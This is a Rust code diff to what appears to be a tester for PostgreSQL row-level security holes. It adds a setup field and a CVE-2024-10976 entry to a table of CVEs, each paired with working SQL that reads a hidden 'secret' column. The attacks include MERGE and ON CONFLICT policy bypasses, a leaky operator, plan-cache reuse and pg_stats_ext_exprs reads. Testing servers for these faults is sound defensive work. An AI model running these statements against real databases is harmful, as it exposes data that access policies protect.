@@ -16,6 +16,8 @@ pub struct Fault {
     pub says: &'static str,
     /// The releases that mend it; empty while none is known.
     pub mended: &'static str,
+    /// What the superuser does before the attacker takes over.
+    before: &'static str,
     /// The attacker's statements; the last one shows the secret where the fault is.
     attack: &'static str,
 }
@@ -27,6 +29,7 @@ pub static FAULTS: &[Fault] = &[
         cve: "CVE-2023-39418",
         says: "MERGE changes rows that no UPDATE policy gives",
         mended: "15.4",
+        before: "",
         attack: "MERGE INTO watertight_engine.rows t USING (VALUES (2)) v (id) ON t.id = v.id \
                  WHEN MATCHED THEN UPDATE SET shown = 'changed'; \
                  RESET ROLE; SELECT secret FROM watertight_engine.rows WHERE shown = 'changed'",
@@ -36,6 +39,7 @@ pub static FAULTS: &[Fault] = &[
         cve: "CVE-2026-120154",
         says: "ON CONFLICT DO UPDATE … WHERE is evaluated on rows that no policy shows",
         mended: "",
+        before: "",
         attack: "INSERT INTO watertight_engine.rows (id, owner, shown, secret) VALUES (2, 'a', 'x', 'x') \
                  ON CONFLICT (id) DO UPDATE SET shown = 'y' WHERE rows.secret::int = 1",
     },
@@ -44,16 +48,28 @@ pub static FAULTS: &[Fault] = &[
         cve: "CVE-2025-8713",
         says: "a leaky operator is shown values of hidden rows out of the planner's statistics",
         mended: "18.0, 17.6, 16.10, 15.14, 14.19",
+        before: "",
         attack: "CREATE FUNCTION pg_temp.tell(text, text) RETURNS boolean LANGUAGE plpgsql COST 0.0001 AS \
                  $$ BEGIN RAISE EXCEPTION 'told %', $1; END $$; \
                  CREATE OPERATOR pg_temp.<<< (PROCEDURE = pg_temp.tell, LEFTARG = text, RIGHTARG = text, RESTRICT = scalarltsel); \
                  EXPLAIN SELECT FROM watertight_engine.rows WHERE secret OPERATOR(pg_temp.<<<) 'a'",
     },
     Fault {
+        class: 92,
+        cve: "CVE-2024-10976",
+        says: "a plan that another role made keeps that role's view of the policies",
+        mended: "17.1, 16.5, 15.9, 14.14",
+        before: "DEALLOCATE ALL; \
+                 PREPARE kept AS WITH shown AS MATERIALIZED (SELECT * FROM watertight_engine.rows) SELECT secret FROM shown; \
+                 DO $$ BEGIN FOR n IN 1 .. 6 LOOP EXECUTE 'EXECUTE kept'; END LOOP; END $$;",
+        attack: "EXECUTE kept",
+    },
+    Fault {
         class: 81,
         cve: "CVE-2024-4317",
         says: "pg_stats_ext_exprs shows values of hidden rows",
         mended: "16.3, 15.7, 14.12",
+        before: "",
         attack: "SELECT most_common_vals::text FROM pg_stats_ext_exprs WHERE tablename = 'rows' AND schemaname = 'watertight_engine'",
     },
 ];
@@ -83,8 +99,9 @@ pub async fn tried(
         )
     });
     let message = format!(
-        "ROLLBACK; BEGIN; {SETUP} {} {} {}",
+        "ROLLBACK; BEGIN; {SETUP} {} {} {} {}",
         grant.unwrap_or_default(),
+        fault.before,
         becomes.unwrap_or_default(),
         fault.attack
     );
